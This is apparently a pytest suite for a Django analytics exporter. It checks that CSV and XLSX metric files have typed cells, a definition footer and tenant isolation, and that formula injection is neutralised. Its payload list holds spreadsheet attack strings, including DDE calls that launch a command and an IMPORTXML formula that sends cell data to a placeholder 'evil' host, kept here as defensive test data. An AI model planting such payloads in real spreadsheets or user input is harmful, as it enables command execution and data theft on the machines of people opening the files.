"""Files of metrics: typed cells, the definition beside them, and nothing that a spreadsheet computes."""

from __future__ import annotations

import csv
import io
import itertools
import random
import time
import unicodedata
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

import pytest
from django.test import Client
from django.utils import timezone

from analytics.models import Tenant
from reports.exports.csv_file import csv_lines
from reports.exports.sheet import Cell, Column, ColumnKind, Sheet
from reports.exports.xlsx_file import xlsx_file
from tests.api import caller, problem
from tests.kpis.story import Story

MONDAY = datetime(2026, 3, 1, 23, tzinfo=UTC)  # of Paris
NOW = datetime(2026, 3, 9, 12, tzinfo=UTC)
WEEK = {"from_": "2026-03-02", "to": "2026-03-04"}
XML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def shop(acme: Tenant, globex: Tenant, monkeypatch: pytest.MonkeyPatch) -> Story:
    """Acme: 20.00 and 5.50 on Monday (FR, DE), 7.00 on Tuesday (=FR). Globex: 999.00."""
    monkeypatch.setattr(timezone, "now", lambda: NOW)
    story = Story(acme)
    story.add("order_completed", MONDAY + timedelta(hours=10), "ann", amount=2000, country="FR", campaign="=1+1")
    story.add("order_completed", MONDAY + timedelta(hours=11), "bob", amount=550, country="DE")
    story.add("order_completed", MONDAY + timedelta(days=1, hours=9), "ann", amount=700, country="FR", campaign="=1+1")
    story.count(NOW)
    neighbour = Story(globex, currency="NPR")
    neighbour.add("order_completed", MONDAY + timedelta(hours=11), "ann", amount=99900, country="NP")
    neighbour.count(NOW)
    return story


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def rows_of(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def cells_of(raw: bytes) -> list[list[tuple[str, str]]]:
    """(type, value) of each cell of the first page; formulas have type `formula`."""
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        assert not any("external" in name.lower() or "vba" in name.lower() for name in book.namelist())
        page = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    return [[_cell(cell) for cell in row] for row in page.iter(f"{XML}row")]


def _cell(cell: Any) -> tuple[str, str]:
    if cell.find(f"{XML}f") is not None:
        return "formula", ""
    text = cell.find(f".//{XML}t")
    number = cell.find(f"{XML}v")
    return cell.get("t", "n"), (text.text or "") if text is not None else (
        number.text or ""
    ) if number is not None else ""


# --- Of a metric ------------------------------------------------------------------------------------------------------


def test_a_csv_has_a_row_for_each_point_with_bare_numbers(shop: Story, acme: Tenant) -> None:
    answer = caller(acme).get("kpis/revenue.gross/export/", **WEEK, granularity="day")

    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="revenue.gross_20260301-20260303.csv"'
    assert body(answer).decode() == (
        '\ufeff"start","value (EUR)","is_complete"\r\n'
        '"2026-03-02T00:00:00+01:00",25.50,true\r\n'
        '"2026-03-03T00:00:00+01:00",7.00,true\r\n'
    )


def test_a_breakdown_is_written_long_with_its_comparison(shop: Story, acme: Tenant) -> None:
    answer = caller(acme).get(
        "kpis/revenue.gross/export/", from_="2026-03-03", to="2026-03-04", by="country", compare="previous"
    )

    assert rows_of(answer) == [
        ["start", "country", "value (EUR)", "is_complete", "compared_start", "compared_value"],
        ["2026-03-03T00:00:00+01:00", "FR", "7.00", "true", "2026-03-02T00:00:00+01:00", "20.00"],
        ["2026-03-03T00:00:00+01:00", "DE", "0.00", "true", "2026-03-02T00:00:00+01:00", "5.50"],
    ]


def test_totals_alone_are_one_row(shop: Story, acme: Tenant) -> None:
    answer = caller(acme).get("kpis/revenue.gross/export/", **WEEK, granularity="total")

    assert rows_of(answer)[1:] == [["2026-03-02T00:00:00+01:00", "32.50", "true"]]


def test_an_xlsx_has_typed_cells_and_ends_with_the_definition(shop: Story, acme: Tenant) -> None:
    answer = caller(acme).get("kpis/revenue.gross/export/", format="xlsx", **WEEK, granularity="day")
    cells = cells_of(body(answer))

    assert [kind for kind, _ in cells[1]] == ["n", "n", "b"]
    assert [value for _, value in cells[1]][1:] == ["25.50", "1"]
    footer = {row[0][1]: row[1][1] for row in cells if len(row) == 2}
    assert footer["Metric"].endswith("(revenue.gross)")
    assert footer["Time zone"] == "Europe/Paris"
    assert footer["Range"] == "2026-03-02T00:00:00+01:00 to 2026-03-04T00:00:00+01:00 (not included)"
    assert footer["Total of the range"] == "32.50"
    assert footer["Complete"] == "yes"
    assert footer["Data through"].startswith("2026-03-09")
    assert footer["Definition version"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_hostile_value_of_a_dimension_is_text(shop: Story, acme: Tenant, kind: str) -> None:
    raw = body(caller(acme).get("kpis/revenue.gross/export/", format=kind, **WEEK, by="campaign", granularity="total"))

    if kind == "csv":
        assert '"\'=1+1",27.00' in raw.decode()
    else:
        assert ("inlineStr", "=1+1") in [cell for row in cells_of(raw) for cell in row]


def test_each_tenant_gets_its_own_numbers(shop: Story, globex: Tenant) -> None:
    answer = caller(globex).get("kpis/revenue.gross/export/", **WEEK, granularity="total")

    assert [row[1] for row in rows_of(answer)[1:]] == ["999.00"]


@pytest.mark.parametrize(
    ("parameters", "status", "said"),
    [
        ({"format": "pdf"}, 400, "`format` is one of csv, json, xlsx, not 'pdf'."),
        ({"by": "contry"}, 400, "Did you mean country"),
        ({"from_": "2026-03-04", "to": "2026-03-02"}, 400, "`to` is exclusive"),
        ({"colour": "red"}, 400, "There is no parameter 'colour' here."),
    ],
)
def test_bad_questions_are_refused_in_words(
    shop: Story, acme: Tenant, parameters: dict[str, str], status: int, said: str
) -> None:
    answer = caller(acme).get("kpis/revenue.gross/export/", **parameters)

    assert answer.status_code == status
    assert said in problem(answer)["detail"]


def test_an_unknown_metric_is_not_found_and_the_nearest_is_named(shop: Story, acme: Tenant) -> None:
    answer = caller(acme).get("kpis/revenue.gros/export/")

    assert answer.status_code == 404
    assert "revenue.gross" in problem(answer)["detail"]


def test_the_menu_of_a_card_gives_the_file_to_a_signed_in_viewer_only(shop: Story, teammate: Any) -> None:
    client = Client()
    assert client.get("/export/revenue.gross.csv").status_code in (401, 403)
    client.force_login(teammate)
    answer = client.get("/export/revenue.gross.csv", {"from": "2026-03-02", "to": "2026-03-04"})

    assert rows_of(answer)[0] == ["start", "value (EUR)", "is_complete", "compared_start", "compared_value"]
    assert len(rows_of(client.get("/export/revenue.gross.csv", {"from": "2026-03-02", "to": "2026-03-04"}))) > 2


def test_a_key_that_only_sends_events_gets_no_file(shop: Story, acme: Tenant) -> None:
    assert caller(acme, kind="pk").get("kpis/revenue.gross/export/").status_code == 403


# --- Hostile texts ----------------------------------------------------------------------------------------------------

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(CONCAT(\"http://evil\",A1),\"//a\")", "x;=1+1", "x\n=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\";=1+1;\"", "\",=1+1,\"", "{=1+1}", "%0A=1", "=\x00cmd",
    "\ud800",    "http://evil.example", "mailto:a@b", "internal:Sheet1!A1", "<script>alert(1)</script>", "=" * 40_000,
    "", "-", "=", "@",
       "-5", "+5", "1e5", "\u2028=1", "\x0b=1", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "\ufeff=1+1", "a,b;c\td", "'=1+1",
    "\ufeff\ufeff=1", "\u200b=1", "\u200d\u2060=1", "\u202e=1", "\u00ad=1", " \ufeff =1", "x;\u200b=1", "\U000e0020=1",
    "\ufe0f=1", "\u3164=1", "\u061c@SUM(1)", "\u2066+1",
)  # fmt: skip
STARTERS = "=+-@\uff1d\uff0b\uff0d\uff20\t\r\n"


def hostile(count: int) -> Iterator[str]:
    """The payloads, and mixtures of their parts."""
    pick = random.Random(5)
    yield from PAYLOADS
    for _ in range(count - len(PAYLOADS)):
        yield "".join(
            pick.choice([pick.choice(STARTERS), pick.choice(PAYLOADS)[:50], pick.choice(";,\"' \t\r\n"), "x"])
            for _ in range(pick.randrange(1, 6))
        )


def seen(cell: str) -> str:
    """What is left at the beginning for a program that throws away blanks and whatever has no width."""
    kept = itertools.dropwhile(lambda letter: letter.isspace() or unicodedata.category(letter) in ("Cf", "Mn"), cell)
    return "".join(kept).removeprefix("\u3164")


def sheet_of(texts: list[str]) -> Sheet:
    columns = (Column("=name", ColumnKind.TEXT), Column("value", ColumnKind.NUMBER), Column("also", ColumnKind.TEXT))
    return Sheet("=sheet[*]", columns, ((text, -5, text) for text in texts), (("=word", "=says"),))


def test_five_thousand_hostile_texts_make_no_formula_in_csv_whatever_separates() -> None:
    texts = list(hostile(5000))
    raw = b"".join(csv_lines(sheet_of(texts))).decode("utf-8-sig")

    found = list(csv.reader(io.StringIO(raw)))
    assert len(found) == len(texts) + 1
    assert {row[1] for row in found[1:]} == {"-5"}  # a number stays a number
    for separator in ",;\t":
        cells = [
            cell
            for row in csv.reader(io.StringIO(raw), delimiter=separator)
            for index, cell in enumerate(row)
            if not (separator == "," and index == 1)
        ]
        assert [cell for cell in cells if seen(cell)[:1] and seen(cell)[0] in STARTERS] == []


def test_five_thousand_hostile_texts_make_no_formula_and_no_link_in_xlsx() -> None:
    texts = list(hostile(5000))
    with xlsx_file(sheet_of(texts)) as file:
        raw = file.read()
    cells = cells_of(raw)

    assert len(cells) == len(texts) + 2
    assert {kind for row in cells[1:-1] for kind, _ in row} <= {"n", "inlineStr"}
    assert {row[1] for row in cells[1:-1]} == {("n", "-5")}
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        assert b"<hyperlink" not in book.read("xl/worksheets/sheet1.xml")


def test_minus_five_is_a_number_in_both() -> None:
    rows: list[tuple[Cell, ...]] = [(Decimal("-5.00"),), (-5,)]
    sheet = Sheet("x", (Column("v", ColumnKind.MONEY),), rows)
    assert b"".join(csv_lines(sheet)).decode("utf-8-sig") == '"v"\r\n-5.00\r\n-5\r\n'
    with xlsx_file(sheet) as file:
        assert cells_of(file.read())[1:] == [[("n", "-5.00")], [("n", "-5")]]


@pytest.mark.parametrize("unit", [";", " ;", "a;", "=", ";=", "\u200b;"])
def test_a_long_text_is_made_harmless_in_no_time(unit: str) -> None:
    sheet = Sheet("x", (Column("x", ColumnKind.TEXT),), [(unit * (200_000 // len(unit)),)])
    begun = time.perf_counter()
    list(csv_lines(sheet))

    assert time.perf_counter() - begun < 2
